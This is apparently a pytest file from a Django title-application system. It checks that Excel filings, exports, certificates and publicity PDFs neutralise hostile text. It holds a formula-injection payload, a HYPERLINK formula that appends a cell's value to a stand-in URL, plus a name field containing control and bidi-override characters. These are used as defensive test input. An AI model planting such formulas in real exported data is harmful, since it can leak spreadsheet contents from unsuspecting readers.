"""Hostile text end to end (issue 11, items 2 and 3): an applicant whose registered name is a spreadsheet
formula and whose specialty holds a control character that got into the database directly goes
through publicity, filing and certificates. The 备案表 holds no formula, the batch is filed all the
same (one applicant never blocks a batch), and the PDFs carry the name as text. Then the generated
files of every kind are fed hostile text drawn by hypothesis."""

import io
import logging
import shutil
import subprocess

import pytest
from django.core.files.storage import default_storage
from hypothesis import HealthCheck, given, settings
from openpyxl import load_workbook

from applications.models import Application
from results.documents.certificates import certificate_pdf
from results.documents.filing_excel import COLUMNS, FilingWorkbookWriter
from results.documents.publicity_pdf import publicity_pdf
from results.models import Certificate, Publicity
from results.services.certificates import certificates_issue_for_batch
from results.services.filing import filing_build_files, filing_create
from reviews import excel as expert_excel
from reviews.selectors.pool import experts_for_export
from tests.enterprises.factories import ContactFactory, EnterpriseFactory
from tests.factories import UserFactory
from tests.results.filing_factories import FilingWorld, number_filing
from tests.reviews.factories import ExpertFactory
from tests.strategies_text import stored_text
from zaozhuang_titles.exports import export_start, query_dict
from zaozhuang_titles.models import Role
from zaozhuang_titles.text import forbidden_characters, sanitize

pytestmark = [pytest.mark.django_db, pytest.mark.real_documents]

pdftotext = shutil.which("pdftotext")
HOSTILE_NAME = '=HYPERLINK("http://x"&C2,"核对")'
HOSTILE_SPECIALTY = "机械\x01设计\u202e"


def workbook_cells(content):
    """Every cell of every sheet, opened the way a reader of the file would open it."""
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells):
    formulas = [(cell.coordinate, cell.value) for cell in cells if cell.data_type == "f"]
    assert formulas == []
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
        if isinstance(cell.value, str):
            assert forbidden_characters(cell.value, multiline=True) == [], cell.coordinate


def pdf_text(content):
    """The text in the order it was drawn (-raw), with the line breaks of wrapped cells taken out."""
    output = subprocess.run([pdftotext, "-raw", "-", "-"], input=content, capture_output=True, check=True).stdout
    return output.decode().replace("\n", "")


def stored(name):
    with default_storage.open(name, "rb") as file:
        return file.read()


@pytest.mark.skipif(pdftotext is None, reason="pdftotext (poppler-utils) reads the text back")
def test_hostile_applicant_goes_through_filing_and_certificates(django_capture_on_commit_callbacks, caplog):
    world = FilingWorld(count=1)
    hostile = world.add(applicant=world.world.applicant(user__real_name=HOSTILE_NAME))
    Application.objects.filter(pk=hostile.pk).update(specialty=HOSTILE_SPECIALTY)

    with caplog.at_level(logging.WARNING, logger="zaozhuang_titles.text"):
        with django_capture_on_commit_callbacks(execute=True):
            filing = filing_create(batch=world.batch, actor=world.city)
        number_filing(filing, world.city)
        filing.refresh_from_db()
        issued = certificates_issue_for_batch(batch_id=world.batch.pk)

    # The whole batch is filed and certified, the hostile applicant included.
    assert filing.row_count == 2
    assert issued == 2
    cells = workbook_cells(stored(filing.excel))
    assert_no_formula(cells)
    rows = [[cell.value for cell in row] for row in load_workbook(io.BytesIO(stored(filing.excel))).active.iter_rows()]
    row = next(row for row in rows if row[0] == HOSTILE_NAME)
    assert row[COLUMNS.index("专业")] == "机械\ufffd设计\ufffd"
    assert any(f"application {hostile.pk}" in record.getMessage() for record in caplog.records)
    # Building the files again (the fix of the reported failure) works as well.
    again = filing_build_files(filing_id=filing.pk)
    again.refresh_from_db()
    assert_no_formula(workbook_cells(stored(again.excel)))
    assert pdf_text(stored(again.pdf))
    # The certificate names the person as text.
    certificate = Certificate.objects.get(application=hostile)
    assert certificate.holder_name == HOSTILE_NAME
    text = pdf_text(stored(certificate.pdf))
    assert HOSTILE_NAME in text
    # And so does the publicity notice, with the line's specialty cleaned.
    entry = world.publicity.entries.get(application=hostile)
    type(entry).objects.filter(pk=entry.pk).update(specialty=HOSTILE_SPECIALTY)
    notice = pdf_text(publicity_pdf(Publicity.objects.get(pk=world.publicity.pk)))
    assert HOSTILE_NAME in notice
    assert "\x01" not in notice and "\u202e" not in notice


FILING_ROW = {
    "application_id": 1,
    "name": "张三",
    "id_number": "370402199001011234",
    "enterprise_name": "枣庄某公司",
    "credit_code": "91370400MA3C000000",
    "specialty": "机械设计",
    "title_granted": "高级工程师",
}


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(text=stored_text)
def test_filing_workbook_writes_any_stored_text_as_text(text):
    writer = FilingWorkbookWriter(committee=text, default_title=text)
    writer.write([{**FILING_ROW, **dict.fromkeys(("name", "enterprise_name", "specialty", "title_granted"), text)}])
    buffer = io.BytesIO()
    writer.save(buffer)

    cells = workbook_cells(buffer.getvalue())
    assert_no_formula(cells)
    assert cells[len(COLUMNS)].value == sanitize(text, where="test")


@settings(max_examples=15, deadline=None, suppress_health_check=list(HealthCheck))
@given(text=stored_text)
def test_enterprise_and_expert_exports_write_any_stored_text_as_text(text):
    enterprise = EnterpriseFactory()
    ContactFactory(enterprise=enterprise)
    expert = ExpertFactory(employer_name="x")
    type(enterprise).objects.filter(pk=enterprise.pk).update(name=text, address=text, industry=text)
    type(expert.user).objects.filter(pk=expert.user.pk).update(real_name=text)
    type(expert).objects.filter(pk=expert.pk).update(title_name=text, employer_name=text)
    city = UserFactory(roles=[Role.CITY_STAFF])
    enterprises = export_start(user=city, source_name="enterprises.list", query=query_dict({}))

    for content in (enterprises.file.read(), expert_excel.export_workbook(experts_for_export())):
        cells = workbook_cells(content)
        assert_no_formula(cells)
        assert sanitize(text, where="test") in [cell.value for cell in cells]


@pytest.mark.skipif(pdftotext is None, reason="pdftotext (poppler-utils) reads the text back")
@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck), database=None)
@given(text=stored_text)
def test_certificate_pdf_is_built_from_any_stored_text(text, certificate):
    certificate.holder_name = text
    certificate.title_name = text
    certificate.committee_name = text

    content = certificate_pdf(certificate, invariant=True)

    assert content.startswith(b"%PDF")
    extracted = pdf_text(content)
    assert "\x01" not in extracted and "\u202e" not in extracted


@pytest.fixture
def certificate(django_capture_on_commit_callbacks):
    world = FilingWorld(count=1)
    with django_capture_on_commit_callbacks(execute=True):
        number_filing(filing_create(batch=world.batch, actor=world.city), world.city)
    certificates_issue_for_batch(batch_id=world.batch.pk)
    return Certificate.objects.get()
